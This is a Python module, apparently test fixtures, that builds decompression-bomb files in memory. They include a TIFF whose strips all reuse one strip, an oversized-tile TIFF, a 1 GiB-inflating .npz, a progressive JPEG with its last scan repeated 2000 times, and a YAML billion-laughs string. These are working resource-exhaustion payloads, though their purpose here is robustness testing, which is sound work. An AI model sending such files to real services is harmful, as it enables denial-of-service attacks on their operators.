"""Small files whose headers claim huge decodes, built on the spot (none held whole in memory).

Each builder returns the bytes of a valid (or nearly valid) file: a TIFF whose strips all point
at one compressed strip, a small TIFF with one huge tile, a FLAC of an hour of silence, a WAV
at 8 Hz, an ``.npz`` of zeros that inflates far past its size, a progressive JPEG whose last
scan repeats, and a YAML billion laughs.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import numpy as np


def tiff_bomb(width: int = 16000, height: int = 16000, rows_per_strip: int = 64) -> bytes:
    """A deflate grey TIFF of ``width x height`` whose strips all point at one compressed strip."""
    strip = zlib.compress(bytes(width * rows_per_strip), 9)
    n = -(-height // rows_per_strip)
    header = 8
    offsets_at = header
    counts_at = offsets_at + 4 * n
    strip_at = counts_at + 4 * n
    ifd_at = strip_at + len(strip) + (len(strip) & 1)
    entries = [
        (256, 4, 1, width),  # ImageWidth, LONG
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample, SHORT
        (259, 3, 1, 8),  # Compression: deflate (Adobe)
        (262, 3, 1, 1),  # Photometric: min-is-black
        (273, 4, n, offsets_at),  # StripOffsets
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, rows_per_strip),  # RowsPerStrip
        (279, 4, n, counts_at),  # StripByteCounts
    ]
    ifd = _ifd(entries)
    body = struct.pack("<2sHI", b"II", 42, ifd_at)
    body += struct.pack(f"<{n}I", *([strip_at] * n)) + struct.pack(f"<{n}I", *([len(strip)] * n))
    body += strip + b"\0" * (len(strip) & 1)
    return body + ifd


def tiff_big_tiles(width: int = 100, height: int = 100, tile: int = 8192) -> bytes:
    """A small deflate grey TIFF whose one tile is ``tile x tile`` pixels (a decoder buffer)."""
    data = zlib.compress(bytes(1 << 16), 9)
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 8),
        (262, 3, 1, 1),
        (277, 3, 1, 1),
        (322, 4, 1, tile),  # TileWidth
        (323, 4, 1, tile),  # TileLength
        (324, 4, 1, 8),  # TileOffsets: the one tile, right after the header
        (325, 4, 1, len(data)),  # TileByteCounts
    ]
    return struct.pack("<2sHI", b"II", 42, 8 + len(data)) + data + _ifd(entries)


def _ifd(entries: list[tuple[int, int, int, int]]) -> bytes:
    """A little-endian IFD of ``(tag, type, count, value)`` entries, no next IFD."""
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    return ifd + struct.pack("<I", 0)


def flac_silence(seconds: int = 3600, sample_rate: int = 16000) -> bytes:
    """A FLAC of ``seconds`` of silence, written a minute at a time."""
    import soundfile as sf

    buf = io.BytesIO()
    minute = np.zeros(sample_rate * 60, np.int16)
    with sf.SoundFile(buf, "w", sample_rate, 1, format="FLAC", subtype="PCM_16") as f:
        for _ in range(seconds // 60):
            f.write(minute)
    return buf.getvalue()


def wav_low_rate(nbytes: int = 20_000, sample_rate: int = 8) -> bytes:
    """A 16-bit mono WAV at ``sample_rate`` Hz holding ``nbytes`` of samples."""
    import soundfile as sf

    buf = io.BytesIO()
    wave = (np.sin(np.arange(nbytes // 2)) * 3000).astype(np.int16)
    sf.write(buf, wave, sample_rate, format="WAV", subtype="PCM_16")
    return buf.getvalue()


def npy_header(shape: tuple[int, ...], dtype: str = "<f4") -> bytes:
    """The ``.npy`` version 1.0 header of an array of ``shape`` and ``dtype``."""
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        out, {"descr": dtype, "fortran_order": False, "shape": shape}
    )
    return out.getvalue()


def npz_zeros(nbytes: int = 1 << 30, name: str = "x.npy") -> bytes:
    """A compressed ``.npz`` holding one float32 array of ``nbytes`` of zeros."""
    buf = io.BytesIO()
    chunk = bytes(1 << 22)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open(name, "w", force_zip64=True) as f,
    ):
        f.write(npy_header((nbytes // 4,)))
        for _ in range(nbytes // len(chunk)):
            f.write(chunk)
    return buf.getvalue()


def jpeg_repeated_scan(size: int = 6000, repeats: int = 2000) -> bytes:
    """A progressive JPEG of ``size x size`` whose last scan repeats ``repeats`` times.

    Each repeat is valid to decode and costs a pass over every block.
    """
    import cv2

    img = np.full((size, size, 3), 128, np.uint8)
    img[: size // 2] = 96  # flat halves: the scans hold little more than end-of-band runs
    ok, enc = cv2.imencode(".jpg", img, [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])
    assert ok
    data = enc.tobytes()
    scans = _scans(data)
    start, end = scans[-1]  # the final AC refinement scan of a component
    return data[:end] + data[start:end] * (repeats - 1) + data[end:]


def _scans(data: bytes) -> list[tuple[int, int]]:
    """``(start, end)`` of every scan (its SOS marker through its entropy-coded data)."""
    out: list[tuple[int, int]] = []
    i = 2
    while i < len(data) - 1:
        marker = data[i + 1]
        if marker == 0xD9:
            break
        length = int.from_bytes(data[i + 2 : i + 4], "big")
        if marker != 0xDA:
            i += 2 + length
            continue
        j = i + 2 + length
        while not (data[j] == 0xFF and data[j + 1] not in (0x00, *range(0xD0, 0xD8))):
            j += 1
        out.append((i, j))
        i = j
    return out


BILLION_LAUGHS = b"""\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""
"""A 342-byte YAML whose aliases expand to 387 million strings (nine levels of nine)."""
